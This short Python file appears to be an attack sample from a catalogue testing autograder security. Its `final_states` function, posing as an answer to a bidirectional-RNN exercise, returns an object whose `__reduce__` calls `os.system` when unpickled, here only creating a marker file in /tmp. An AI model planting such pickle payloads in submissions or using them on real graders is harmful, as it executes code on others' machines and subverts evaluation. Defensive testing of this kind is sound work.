"""Return an object that runs a command wherever it is unpickled.

Seen: catalogue 31 (Otter's dill, PrairieLearn v2's `deserialize_object_unsafe`).
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "judging"
# ///

import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-left-pickle",))


def final_states(h_n, num_layers):
    return Bomb()
